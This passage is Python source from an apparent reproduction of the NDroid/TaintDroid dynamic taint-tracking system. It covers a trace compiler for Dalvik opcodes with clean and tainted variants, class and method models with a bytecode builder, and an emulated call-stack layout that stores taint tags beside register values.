                if pending is None:
                    raise DalvikError(
                        "move-exception with no pending exception")
                wr2(frame.fp + off_a, pending.exception_address & _M32, 0)
                frame.ref_flags[a] = True
                vm.caught_exception = None

            def clean(frame):
                pending = vm.caught_exception
                if pending is None:
                    raise DalvikError(
                        "move-exception with no pending exception")
                taint = pending.taint
                if taint:
                    frame.maybe_tainted = True
                    wr2(frame.fp + off_a,
                        pending.exception_address & _M32, taint)
                    frame.ref_flags[a] = True
                    vm.caught_exception = None
                    raise _TaintEntered(index)
                wr(frame.fp + off_a, pending.exception_address & _M32)
                frame.ref_flags[a] = True
                vm.caught_exception = None

            def tainted(frame):
                pending = vm.caught_exception
                if pending is None:
                    raise DalvikError(
                        "move-exception with no pending exception")
                wr2(frame.fp + off_a, pending.exception_address & _M32,
                    pending.taint)
                frame.ref_flags[a] = True
                vm.caught_exception = None
            return untracked, clean, tainted

        if op is Op.CONST:
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_register(method, bad)
            value = int(ins.literal) & _M32

            def untracked(frame):
                wr2(frame.fp + off_a, value, 0)
                frame.ref_flags[a] = False

            def clean(frame):
                wr(frame.fp + off_a, value)
                frame.ref_flags[a] = False
            return untracked, clean, untracked

        if op is Op.CONST_STRING:
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_register(method, bad)
            text = str(ins.literal)

            def untracked(frame):
                wr2(frame.fp + off_a, vm.intern_string(text) & _M32, 0)
                frame.ref_flags[a] = True

            def clean(frame):
                wr(frame.fp + off_a, vm.intern_string(text) & _M32)
                frame.ref_flags[a] = True
            return untracked, clean, untracked

        if op in BINARY_OPS:
            bad = self._check_registers(method, a, b, c)
            if bad is not None:
                return self._bad_register(method, bad)
            fn = BINARY_OPS[op]
            if op in (Op.DIV_INT, Op.REM_INT):
                def untracked(frame):
                    frame.pc = pc
                    fp = frame.fp
                    x = rd(fp + off_b)
                    y = rd(fp + off_c)
                    if x & _SIGN:
                        x -= _WRAP
                    if y & _SIGN:
                        y -= _WRAP
                    try:
                        value = fn(x, y)
                    except ZeroDivisionError:
                        interp._throw_new(
                            frame, "Ljava/lang/ArithmeticException;",
                            "divide by zero")
                    wr2(fp + off_a, value & _M32, 0)
                    frame.ref_flags[a] = False

                def clean(frame):
                    frame.pc = pc
                    fp = frame.fp
                    x = rd(fp + off_b)
                    y = rd(fp + off_c)
                    if x & _SIGN:
                        x -= _WRAP
                    if y & _SIGN:
                        y -= _WRAP
                    try:
                        value = fn(x, y)
                    except ZeroDivisionError:
                        interp._throw_new(
                            frame, "Ljava/lang/ArithmeticException;",
                            "divide by zero")
                    wr(fp + off_a, value & _M32)
                    frame.ref_flags[a] = False

                def tainted(frame):
                    frame.pc = pc
                    fp = frame.fp
                    x = rd(fp + off_b)
                    y = rd(fp + off_c)
                    if x & _SIGN:
                        x -= _WRAP
                    if y & _SIGN:
                        y -= _WRAP
                    try:
                        value = fn(x, y)
                    except ZeroDivisionError:
                        interp._throw_new(
                            frame, "Ljava/lang/ArithmeticException;",
                            "divide by zero")
                    wr2(fp + off_a, value & _M32,
                        rd(fp + toff_b) | rd(fp + toff_c))
                    frame.ref_flags[a] = False
                return untracked, clean, tainted

            def untracked(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                y = rd(fp + off_c)
                if x & _SIGN:
                    x -= _WRAP
                if y & _SIGN:
                    y -= _WRAP
                wr2(fp + off_a, fn(x, y) & _M32, 0)
                frame.ref_flags[a] = False

            def clean(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                y = rd(fp + off_c)
                if x & _SIGN:
                    x -= _WRAP
                if y & _SIGN:
                    y -= _WRAP
                wr(fp + off_a, fn(x, y) & _M32)
                frame.ref_flags[a] = False

            def tainted(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                y = rd(fp + off_c)
                if x & _SIGN:
                    x -= _WRAP
                if y & _SIGN:
                    y -= _WRAP
                wr2(fp + off_a, fn(x, y) & _M32,
                    rd(fp + toff_b) | rd(fp + toff_c))
                frame.ref_flags[a] = False
            return untracked, clean, tainted

        if op in (Op.ADD_INT_LIT, Op.MUL_INT_LIT):
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)
            literal = int(ins.literal)
            add = op is Op.ADD_INT_LIT

            def untracked(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if x & _SIGN:
                    x -= _WRAP
                wr2(fp + off_a,
                    ((x + literal) if add else (x * literal)) & _M32, 0)
                frame.ref_flags[a] = False

            def clean(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if x & _SIGN:
                    x -= _WRAP
                wr(fp + off_a,
                   ((x + literal) if add else (x * literal)) & _M32)
                frame.ref_flags[a] = False

            def tainted(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if x & _SIGN:
                    x -= _WRAP
                wr2(fp + off_a,
                    ((x + literal) if add else (x * literal)) & _M32,
                    rd(fp + toff_b))
                frame.ref_flags[a] = False
            return untracked, clean, tainted

        if op in (Op.NEG_INT, Op.NOT_INT):
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)
            neg = op is Op.NEG_INT

            def untracked(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if neg:
                    if x & _SIGN:
                        x -= _WRAP
                    value = (-x) & _M32
                else:
                    value = (~x) & _M32
                wr2(fp + off_a, value, 0)
                frame.ref_flags[a] = False

            def clean(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if neg:
                    if x & _SIGN:
                        x -= _WRAP
                    value = (-x) & _M32
                else:
                    value = (~x) & _M32
                wr(fp + off_a, value)
                frame.ref_flags[a] = False

            def tainted(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if neg:
                    if x & _SIGN:
                        x -= _WRAP
                    value = (-x) & _M32
                else:
                    value = (~x) & _M32
                wr2(fp + off_a, value, rd(fp + toff_b))
                frame.ref_flags[a] = False
            return untracked, clean, tainted

        if op is Op.NEW_INSTANCE:
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_register(method, bad)
            symbol = ins.symbol

            def untracked(frame):
                record = vm.new_instance(symbol)
                wr2(frame.fp + off_a, record.address & _M32, 0)
                frame.ref_flags[a] = True

            def clean(frame):
                record = vm.new_instance(symbol)
                wr(frame.fp + off_a, record.address & _M32)
                frame.ref_flags[a] = True
            return untracked, clean, untracked

        if op is Op.NEW_ARRAY:
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)
            element_type = ins.symbol or "I"

            def untracked(frame):
                frame.pc = pc
                fp = frame.fp
                length = rd(fp + off_b)
                if length & _SIGN:
                    interp._throw_new(
                        frame, "Ljava/lang/NegativeArraySizeException;",
                        str(length - _WRAP))
                record = vm.heap.alloc_array(element_type, length)
                wr2(fp + off_a, record.address & _M32, 0)
                frame.ref_flags[a] = True

            def clean(frame):
                frame.pc = pc
                fp = frame.fp
                length = rd(fp + off_b)
                if length & _SIGN:
                    interp._throw_new(
                        frame, "Ljava/lang/NegativeArraySizeException;",
                        str(length - _WRAP))
                record = vm.heap.alloc_array(element_type, length)
                wr(fp + off_a, record.address & _M32)
                frame.ref_flags[a] = True
            return untracked, clean, untracked

        if op is Op.ARRAY_LENGTH:
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)

            def untracked(frame):
                frame.pc = pc
                record = interp._array(frame, b)
                wr2(frame.fp + off_a, len(record.elements) & _M32, 0)
                frame.ref_flags[a] = False

            def clean(frame):
                frame.pc = pc
                record = interp._array(frame, b)
                taint = record.taint
                if taint:
                    frame.maybe_tainted = True
                    wr2(frame.fp + off_a, len(record.elements) & _M32,
                        taint)
                    frame.ref_flags[a] = False
                    raise _TaintEntered(index)
                wr(frame.fp + off_a, len(record.elements) & _M32)
                frame.ref_flags[a] = False

            def tainted(frame):
                frame.pc = pc
                record = interp._array(frame, b)
                wr2(frame.fp + off_a, len(record.elements) & _M32,
                    record.taint)
                frame.ref_flags[a] = False
            return untracked, clean, tainted

        if op in (Op.AGET, Op.AGET_OBJECT):
            bad = self._check_registers(method, a, b, c)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.AGET_OBJECT

            def untracked(frame):
                frame.pc = pc
                record = interp._array(frame, b)
                idx = interp._array_index(frame, c, record)
                wr2(frame.fp + off_a, record.elements[idx].value & _M32, 0)
                frame.ref_flags[a] = is_ref

            def clean(frame):
                frame.pc = pc
                record = interp._array(frame, b)
                idx = interp._array_index(frame, c, record)
                value = record.elements[idx].value & _M32
                taint = record.taint   # reg c's taint is zero when clean
                if taint:
                    frame.maybe_tainted = True
                    wr2(frame.fp + off_a, value, taint)
                    frame.ref_flags[a] = is_ref
                    raise _TaintEntered(index)
                wr(frame.fp + off_a, value)
                frame.ref_flags[a] = is_ref

            def tainted(frame):
                frame.pc = pc
                fp = frame.fp
                record = interp._array(frame, b)
                idx = interp._array_index(frame, c, record)
                wr2(fp + off_a, record.elements[idx].value & _M32,
                    record.taint | rd(fp + toff_c))
                frame.ref_flags[a] = is_ref
            return untracked, clean, tainted

        if op in (Op.APUT, Op.APUT_OBJECT):
            bad = self._check_registers(method, a, b, c)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.APUT_OBJECT

            def untracked(frame):
                frame.pc = pc
                record = interp._array(frame, b)
                idx = interp._array_index(frame, c, record)
                record.elements[idx] = Slot(rd(frame.fp + off_a),
                                            TAINT_CLEAR, is_ref)
                vm.heap.sync_array_to_memory(record)

            def tainted(frame):
                frame.pc = pc
                fp = frame.fp
                record = interp._array(frame, b)
                idx = interp._array_index(frame, c, record)
                record.elements[idx] = Slot(rd(fp + off_a), TAINT_CLEAR,
                                            is_ref)
                # TaintDroid: one label per array object, grown by union.
                record.taint |= rd(fp + toff_a) | rd(fp + toff_c)
                vm.heap.sync_array_to_memory(record)
            return untracked, untracked, tainted

        if op in (Op.IGET, Op.IGET_OBJECT):
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.IGET_OBJECT
            symbol = ins.symbol

            def untracked(frame):
                frame.pc = pc
                slot = interp._field(frame, b, symbol)
                wr2(frame.fp + off_a, slot.value & _M32, 0)
                frame.ref_flags[a] = is_ref

            def clean(frame):
                frame.pc = pc
                slot = interp._field(frame, b, symbol)
                taint = slot.taint
                if taint:
                    frame.maybe_tainted = True
                    wr2(frame.fp + off_a, slot.value & _M32, taint)
                    frame.ref_flags[a] = is_ref
                    raise _TaintEntered(index)
                wr(frame.fp + off_a, slot.value & _M32)
                frame.ref_flags[a] = is_ref

            def tainted(frame):
                frame.pc = pc
                slot = interp._field(frame, b, symbol)
                wr2(frame.fp + off_a, slot.value & _M32, slot.taint)
                frame.ref_flags[a] = is_ref
            return untracked, clean, tainted

        if op in (Op.IPUT, Op.IPUT_OBJECT):
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.IPUT_OBJECT
            symbol = ins.symbol

            def untracked(frame):
                frame.pc = pc
                slot = interp._field(frame, b, symbol, create=True)
                slot.value = rd(frame.fp + off_a)
                slot.taint = TAINT_CLEAR
                slot.is_ref = is_ref

            def tainted(frame):
                frame.pc = pc
                fp = frame.fp
                slot = interp._field(frame, b, symbol, create=True)
                slot.value = rd(fp + off_a)
                slot.taint = rd(fp + toff_a)
                slot.is_ref = is_ref
            return untracked, untracked, tainted

        if op in (Op.SGET, Op.SGET_OBJECT):
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.SGET_OBJECT
            symbol = ins.symbol

            def untracked(frame):
                value, _taint = vm.get_static(symbol)
                wr2(frame.fp + off_a, value & _M32, 0)
                frame.ref_flags[a] = is_ref

            def clean(frame):
                value, taint = vm.get_static(symbol)
                if taint:
                    frame.maybe_tainted = True
                    wr2(frame.fp + off_a, value & _M32, taint)
                    frame.ref_flags[a] = is_ref
                    raise _TaintEntered(index)
                wr(frame.fp + off_a, value & _M32)
                frame.ref_flags[a] = is_ref

            def tainted(frame):
                value, taint = vm.get_static(symbol)
                wr2(frame.fp + off_a, value & _M32, taint)
                frame.ref_flags[a] = is_ref
            return untracked, clean, tainted

        if op in (Op.SPUT, Op.SPUT_OBJECT):
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_register(method, bad)
            is_ref = op is Op.SPUT_OBJECT
            symbol = ins.symbol

            def untracked(frame):
                vm.set_static(symbol, rd(frame.fp + off_a), TAINT_CLEAR,
                              is_ref=is_ref)

            def tainted(frame):
                fp = frame.fp
                vm.set_static(symbol, rd(fp + off_a), rd(fp + toff_a),
                              is_ref=is_ref)
            return untracked, untracked, tainted

        if op is Op.STRING_CONCAT:
            bad = self._check_registers(method, a, b, c)
            if bad is not None:
                return self._bad_register(method, bad)

            def untracked(frame):
                fp = frame.fp
                left = vm.heap.get(rd(fp + off_b))
                right = vm.heap.get(rd(fp + off_c))
                record = vm.heap.alloc_string(
                    vm.string_value(left) + vm.string_value(right),
                    TAINT_CLEAR)
                wr2(fp + off_a, record.address & _M32, 0)
                frame.ref_flags[a] = True

            def clean(frame):
                fp = frame.fp
                left = vm.heap.get(rd(fp + off_b))
                right = vm.heap.get(rd(fp + off_c))
                taint = left.taint | right.taint   # reg taints are zero
                record = vm.heap.alloc_string(
                    vm.string_value(left) + vm.string_value(right), taint)
                if taint:
                    frame.maybe_tainted = True
                    wr2(fp + off_a, record.address & _M32, taint)
                    frame.ref_flags[a] = True
                    raise _TaintEntered(index)
                wr(fp + off_a, record.address & _M32)
                frame.ref_flags[a] = True

            def tainted(frame):
                fp = frame.fp
                left = vm.heap.get(rd(fp + off_b))
                right = vm.heap.get(rd(fp + off_c))
                taint = (left.taint | right.taint | rd(fp + toff_b)
                         | rd(fp + toff_c))
                record = vm.heap.alloc_string(
                    vm.string_value(left) + vm.string_value(right), taint)
                wr2(fp + off_a, record.address & _M32, taint)
                frame.ref_flags[a] = True
            return untracked, clean, tainted

        if op is Op.INT_TO_STRING:
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_register(method, bad)

            def untracked(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if x & _SIGN:
                    x -= _WRAP
                record = vm.heap.alloc_string(str(x), TAINT_CLEAR)
                wr2(fp + off_a, record.address & _M32, 0)
                frame.ref_flags[a] = True

            def clean(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if x & _SIGN:
                    x -= _WRAP
                record = vm.heap.alloc_string(str(x), TAINT_CLEAR)
                wr(fp + off_a, record.address & _M32)
                frame.ref_flags[a] = True

            def tainted(frame):
                fp = frame.fp
                x = rd(fp + off_b)
                if x & _SIGN:
                    x -= _WRAP
                taint = rd(fp + toff_b)
                record = vm.heap.alloc_string(str(x), taint)
                wr2(fp + off_a, record.address & _M32, taint)
                frame.ref_flags[a] = True
            return untracked, clean, tainted

        def unimplemented(frame):
            raise DalvikError(f"unimplemented opcode {op}")
        return unimplemented, unimplemented, unimplemented

    # -- terminator compilation -------------------------------------------

    def _compile_terminator(self, method: Method, ins: Ins, pc: int
                            ) -> Tuple[Callable, Callable]:
        vm = self.vm
        memory = vm.memory
        rd = memory.read_u32
        op = ins.op
        a, b = ins.a, ins.b
        off_a, off_b = 8 * a, 8 * b
        toff_a = off_a + 4

        if op is Op.GOTO:
            target = ins.target_index

            def term(frame):
                frame.pc = target
            return term, term

        if op in COMPARE_OPS:
            bad = self._check_registers(method, a, b)
            if bad is not None:
                return self._bad_terminator(method, bad)
            cmp = COMPARE_OPS[op]
            target = ins.target_index
            fall = pc + 1

            def term(frame):
                fp = frame.fp
                x = rd(fp + off_a)
                y = rd(fp + off_b)
                if x & _SIGN:
                    x -= _WRAP
                if y & _SIGN:
                    y -= _WRAP
                frame.pc = target if cmp(x, y) else fall
            return term, term

        if op in COMPARE_Z_OPS:
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_terminator(method, bad)
            cmp = COMPARE_Z_OPS[op]
            target = ins.target_index
            fall = pc + 1

            def term(frame):
                x = rd(frame.fp + off_a)
                if x & _SIGN:
                    x -= _WRAP
                frame.pc = target if cmp(x) else fall
            return term, term

        if op is Op.RETURN_VOID:
            def term(frame):
                return Slot(0, TAINT_CLEAR, False)
            return term, term

        if op in (Op.RETURN, Op.RETURN_OBJECT):
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_terminator(method, bad)
            is_ref = op is Op.RETURN_OBJECT

            def term_clean(frame):
                return Slot(rd(frame.fp + off_a), TAINT_CLEAR, is_ref)

            def term_tainted(frame):
                fp = frame.fp
                return Slot(rd(fp + off_a), rd(fp + toff_a), is_ref)
            return term_clean, term_tainted

        if op is Op.THROW:
            bad = self._check_registers(method, a)
            if bad is not None:
                return self._bad_terminator(method, bad)

            def term_clean(frame):
                frame.pc = pc
                address = rd(frame.fp + off_a)
                record = vm.heap.get(address)
                raise PendingException(address, TAINT_CLEAR,
                                       record.class_name)

            def term_tainted(frame):
                frame.pc = pc
                fp = frame.fp
                address = rd(fp + off_a)
                record = vm.heap.get(address)
                raise PendingException(address, rd(fp + toff_a),
                                       record.class_name)
            return term_clean, term_tainted

        # Invokes: the trace ends, the callee runs, MOVE_RESULT (if any)
        # leads the successor block.
        bad = self._check_registers(method, *ins.args)
        if bad is not None:
            return self._bad_terminator(method, bad)
        registers = tuple(ins.args)
        symbol = ins.symbol
        virtual = op is Op.INVOKE_VIRTUAL
        invoke = vm.invoke_symbol
        next_pc = pc + 1

        def term_clean(frame):
            frame.pc = pc
            fp = frame.fp
            flags = frame.ref_flags
            arg_slots = [Slot(rd(fp + 8 * r), TAINT_CLEAR, flags[r])
                         for r in registers]
            vm.interp_save_state = invoke(symbol, arg_slots,
                                          virtual=virtual)
            frame.pc = next_pc

        def term_tainted(frame):
            frame.pc = pc
            fp = frame.fp
            flags = frame.ref_flags
            arg_slots = [Slot(rd(fp + 8 * r), rd(fp + 8 * r + 4), flags[r])
                         for r in registers]
            vm.interp_save_state = invoke(symbol, arg_slots,
                                          virtual=virtual)
            frame.pc = next_pc
        return term_clean, term_tainted

    def _bad_terminator(self, method: Method, register: int
                        ) -> Tuple[Callable, Callable]:
        def term(frame):
            raise DalvikError(
                f"register v{register} out of range in {method.full_name}")
        return term, term

    def _compile_fell_off(self, method: Method) -> Callable:
        def term(frame):
            raise DalvikError(f"fell off the end of {method.full_name}")
        return term
