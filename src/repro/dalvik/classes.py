"""Class, field and method models plus the method-builder authoring API.

Class names use JVM descriptor syntax (``Lcom/tencent/tccsync/LoginUtil;``)
and method *shorties* follow Dalvik: the first character is the return
type, the rest are parameter types, with ``L`` for any reference — e.g. the
paper's ``makeLoginRequestPackageMd5`` has shorty ``IILLLLLLLLII``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.common.errors import DalvikError
from repro.dalvik.instructions import Ins, Op

ACC_PUBLIC = 0x0001
ACC_STATIC = 0x0008
ACC_NATIVE = 0x0100


@dataclass
class Field:
    """A field definition: ``type_char`` is a shorty char (I, L, ...)."""

    name: str
    type_char: str = "I"

    @property
    def is_reference(self) -> bool:
        return self.type_char == "L"


class Method:
    """A Dalvik method: interpreted bytecode or a native stub."""

    def __init__(self, class_name: str, name: str, shorty: str,
                 access_flags: int = ACC_PUBLIC,
                 code: Optional[List[Ins]] = None,
                 registers_size: int = 0) -> None:
        self.class_name = class_name
        self.name = name
        self.shorty = shorty
        self.access_flags = access_flags
        self.code = code or []
        # ins = declared params (+1 for "this" on non-static methods).
        self.ins_size = len(shorty) - 1 + (0 if self.is_static else 1)
        self.registers_size = max(registers_size, self.ins_size)
        self.native_address = 0
        # try/catch: (start_index, end_index_exclusive, handler_index).
        self.catch_ranges: List[Tuple[int, int, int]] = []

    @property
    def is_static(self) -> bool:
        return bool(self.access_flags & ACC_STATIC)

    @property
    def is_native(self) -> bool:
        return bool(self.access_flags & ACC_NATIVE)

    @property
    def return_type(self) -> str:
        return self.shorty[0]

    @property
    def full_name(self) -> str:
        return f"{self.class_name}->{self.name}"

    def param_types(self) -> str:
        """Parameter shorty chars, with 'L' prefixed for ``this``."""
        params = self.shorty[1:]
        return params if self.is_static else "L" + params

    def jni_symbol(self) -> str:
        """The ``Java_pkg_Class_method`` symbol the JNI loader binds."""
        cls = self.class_name.strip("L;").replace("/", "_")
        return f"Java_{cls}_{self.name}"

    def __repr__(self) -> str:
        kind = "native " if self.is_native else ""
        return f"<{kind}method {self.full_name} {self.shorty}>"


class ClassDef:
    """A loaded class: fields, methods, static storage."""

    def __init__(self, name: str, superclass: Optional[str] = None) -> None:
        if not (name.startswith("L") and name.endswith(";")):
            raise DalvikError(f"bad class descriptor {name!r}")
        self.name = name
        self.superclass = superclass
        self.instance_fields: Dict[str, Field] = {}
        self.static_fields: Dict[str, Field] = {}
        # Static storage is (value, taint) like TaintDroid's interleaved
        # static field area.
        self.static_values: Dict[str, List[int]] = {}
        self.static_ref_flags: Dict[str, bool] = {}
        self.methods: Dict[str, Method] = {}

    def add_instance_field(self, name: str, type_char: str = "I") -> Field:
        field_def = Field(name, type_char)
        self.instance_fields[name] = field_def
        return field_def

    def add_static_field(self, name: str, type_char: str = "I") -> Field:
        field_def = Field(name, type_char)
        self.static_fields[name] = field_def
        self.static_values[name] = [0, 0]
        self.static_ref_flags[name] = field_def.is_reference
        return field_def

    def add_method(self, method: Method) -> Method:
        self.methods[method.name] = method
        return method

    def method(self, name: str) -> Method:
        found = self.methods.get(name)
        if found is None:
            raise DalvikError(f"no method {name!r} in {self.name}")
        return found


class MethodBuilder:
    """Fluent builder for authoring method bytecode with labels.

    >>> builder = MethodBuilder("LFoo;", "answer", "I", static=True)
    >>> builder.const(0, 42).ret(0)          # doctest: +ELLIPSIS
    <repro.dalvik.classes.MethodBuilder object at ...>
    >>> method = builder.build()
    >>> method.registers_size >= 1
    True
    """

    def __init__(self, class_name: str, name: str, shorty: str,
                 static: bool = False, native: bool = False,
                 registers: int = 0) -> None:
        flags = ACC_PUBLIC
        if static:
            flags |= ACC_STATIC
        if native:
            flags |= ACC_NATIVE
        self._method = Method(class_name, name, shorty, flags,
                              registers_size=registers)
        self._code: List[Ins] = []
        self._labels: Dict[str, int] = {}
        self._catches: List[Tuple[str, str, str]] = []
        self._max_register = -1

    # -- low-level ------------------------------------------------------------

    def emit(self, ins: Ins) -> "MethodBuilder":
        for register in (ins.a, ins.b, ins.c, *ins.args):
            self._max_register = max(self._max_register, register)
        self._code.append(ins)
        return self

    def label(self, name: str) -> "MethodBuilder":
        if name in self._labels:
            raise DalvikError(f"duplicate label {name!r}")
        self._labels[name] = len(self._code)
        return self

    def catch_range(self, start: str, end: str,
                    handler: str) -> "MethodBuilder":
        self._catches.append((start, end, handler))
        return self

    # -- instruction shorthands --------------------------------------------------

    def nop(self):
        return self.emit(Ins(Op.NOP))

    def const(self, a: int, value: int):
        return self.emit(Ins(Op.CONST, a=a, literal=value))

    def const_string(self, a: int, text: str):
        return self.emit(Ins(Op.CONST_STRING, a=a, literal=text))

    def move(self, a: int, b: int):
        return self.emit(Ins(Op.MOVE, a=a, b=b))

    def move_object(self, a: int, b: int):
        return self.emit(Ins(Op.MOVE_OBJECT, a=a, b=b))

    def move_result(self, a: int):
        return self.emit(Ins(Op.MOVE_RESULT, a=a))

    def move_result_object(self, a: int):
        return self.emit(Ins(Op.MOVE_RESULT_OBJECT, a=a))

    def move_exception(self, a: int):
        return self.emit(Ins(Op.MOVE_EXCEPTION, a=a))

    def ret_void(self):
        return self.emit(Ins(Op.RETURN_VOID))

    def ret(self, a: int):
        return self.emit(Ins(Op.RETURN, a=a))

    def ret_object(self, a: int):
        return self.emit(Ins(Op.RETURN_OBJECT, a=a))

    def binop(self, op: Op, a: int, b: int, c: int):
        return self.emit(Ins(op, a=a, b=b, c=c))

    def add_lit(self, a: int, b: int, literal: int):
        return self.emit(Ins(Op.ADD_INT_LIT, a=a, b=b, literal=literal))

    def neg(self, a: int, b: int):
        return self.emit(Ins(Op.NEG_INT, a=a, b=b))

    def new_instance(self, a: int, class_name: str):
        return self.emit(Ins(Op.NEW_INSTANCE, a=a, symbol=class_name))

    def new_array(self, a: int, size_reg: int, element_type: str = "I"):
        return self.emit(Ins(Op.NEW_ARRAY, a=a, b=size_reg,
                             symbol=element_type))

    def array_length(self, a: int, b: int):
        return self.emit(Ins(Op.ARRAY_LENGTH, a=a, b=b))

    def aget(self, a: int, array: int, index: int, obj: bool = False):
        return self.emit(Ins(Op.AGET_OBJECT if obj else Op.AGET,
                             a=a, b=array, c=index))

    def aput(self, a: int, array: int, index: int, obj: bool = False):
        return self.emit(Ins(Op.APUT_OBJECT if obj else Op.APUT,
                             a=a, b=array, c=index))

    def iget(self, a: int, obj: int, field_name: str, ref: bool = False):
        return self.emit(Ins(Op.IGET_OBJECT if ref else Op.IGET,
                             a=a, b=obj, symbol=field_name))

    def iput(self, a: int, obj: int, field_name: str, ref: bool = False):
        return self.emit(Ins(Op.IPUT_OBJECT if ref else Op.IPUT,
                             a=a, b=obj, symbol=field_name))

    def sget(self, a: int, symbol: str, ref: bool = False):
        return self.emit(Ins(Op.SGET_OBJECT if ref else Op.SGET,
                             a=a, symbol=symbol))

    def sput(self, a: int, symbol: str, ref: bool = False):
        return self.emit(Ins(Op.SPUT_OBJECT if ref else Op.SPUT,
                             a=a, symbol=symbol))

    def invoke_virtual(self, symbol: str, *args: int):
        return self.emit(Ins(Op.INVOKE_VIRTUAL, symbol=symbol,
                             args=tuple(args)))

    def invoke_static(self, symbol: str, *args: int):
        return self.emit(Ins(Op.INVOKE_STATIC, symbol=symbol,
                             args=tuple(args)))

    def invoke_direct(self, symbol: str, *args: int):
        return self.emit(Ins(Op.INVOKE_DIRECT, symbol=symbol,
                             args=tuple(args)))

    def goto(self, target: str):
        return self.emit(Ins(Op.GOTO, target=target))

    def if_cmp(self, op: Op, a: int, b: int, target: str):
        return self.emit(Ins(op, a=a, b=b, target=target))

    def if_z(self, op: Op, a: int, target: str):
        return self.emit(Ins(op, a=a, target=target))

    def throw(self, a: int):
        return self.emit(Ins(Op.THROW, a=a))

    def string_concat(self, a: int, b: int, c: int):
        return self.emit(Ins(Op.STRING_CONCAT, a=a, b=b, c=c))

    def int_to_string(self, a: int, b: int):
        return self.emit(Ins(Op.INT_TO_STRING, a=a, b=b))

    # -- finalisation ---------------------------------------------------------------

    def build(self) -> Method:
        method = self._method
        if method.is_native:
            if self._code:
                raise DalvikError("native methods must not carry bytecode")
            return method
        for ins in self._code:
            if ins.target is not None:
                if ins.target not in self._labels:
                    raise DalvikError(f"undefined label {ins.target!r}")
                ins.target_index = self._labels[ins.target]
        for start, end, handler in self._catches:
            try:
                method.catch_ranges.append(
                    (self._labels[start], self._labels[end],
                     self._labels[handler]))
            except KeyError as missing:
                raise DalvikError(f"undefined catch label {missing}") from None
        method.code = list(self._code)
        needed = max(self._max_register + 1, method.ins_size)
        method.registers_size = max(method.registers_size, needed)
        return method
