"""The DVM call stack in emulated memory, with TaintDroid's layout.

TaintDroid "modifies DVM's stack structure to increase stack size for
storing taint labels related to registers" (Section II.B, Fig. 1): each
register slot is followed by its taint tag, parameter taints for native
callees are stored interleaved in the caller's outs area, and a
``StackSaveArea`` above each frame records the caller's state.

The stack lives in guest memory so NDroid can do what the paper describes
literally: parse parameters *and their taints* from the frame pointer
passed to ``dvmCallJNIMethod``, and write taints into callee frame slots
("add taint to new method frame t[44bf8c14] = 0x1602", Fig. 9).

Frame layout (addresses grow downward like the real interpreted stack)::

    higher addresses
      [StackSaveArea: prev_fp, method_id, return taint slot]
      v0 value | v0 taint | v1 value | v1 taint | ...
    fp -> (address of v0 value slot)
    lower addresses
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.common.errors import DalvikError
from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.dalvik.classes import Method
from repro.memory.memory import Memory

DVM_STACK_BASE = 0x44C0_0000   # top of the interpreted stack
DVM_STACK_SIZE = 0x0004_0000

SAVE_AREA_SIZE = 12            # prev_fp | method_id | return-taint
SLOT_SIZE = 8                  # 4 bytes value + 4 bytes taint tag


class Frame:
    """A method frame fronting guest-memory slots.

    Values and taints are read/written through guest memory; reference
    flags (needed for exact GC) are kept alongside in Python, as the real
    VM derives them from verifier type maps.
    """

    def __init__(self, memory: Memory, fp: int, method: Method,
                 prev_fp: int) -> None:
        self.memory = memory
        self.fp = fp
        self.method = method
        self.prev_fp = prev_fp
        self.register_count = method.registers_size
        self.ref_flags: List[bool] = [False] * self.register_count
        self.pc = 0
        # Sticky taint flag: becomes True the first time a nonzero taint
        # tag lands in any register slot and never resets for the frame's
        # lifetime.  The trace compiler dispatches on it to pick the clean
        # or tainted block variant (mirroring the TB engine's per-block
        # ``maybe_tainted`` discipline): False guarantees every taint word
        # in the frame is zero, so clean variants may skip taint reads and
        # writes entirely.
        self.maybe_tainted = False

    # -- slot addressing ---------------------------------------------------------

    def slot_address(self, register: int) -> int:
        """Guest address of vN's value word (taint tag is 4 bytes above)."""
        self._check(register)
        return self.fp + SLOT_SIZE * register

    def taint_address(self, register: int) -> int:
        return self.slot_address(register) + 4

    def _check(self, register: int) -> None:
        if not 0 <= register < self.register_count:
            raise DalvikError(
                f"register v{register} out of range in {self.method.full_name}")

    # -- typed access ---------------------------------------------------------------

    def get(self, register: int) -> int:
        return self.memory.read_u32(self.slot_address(register))

    def get_signed(self, register: int) -> int:
        return self.memory.read_i32(self.slot_address(register))

    def get_taint(self, register: int) -> TaintLabel:
        return self.memory.read_u32(self.taint_address(register))

    def is_ref(self, register: int) -> bool:
        self._check(register)
        return self.ref_flags[register]

    def set(self, register: int, value: int,
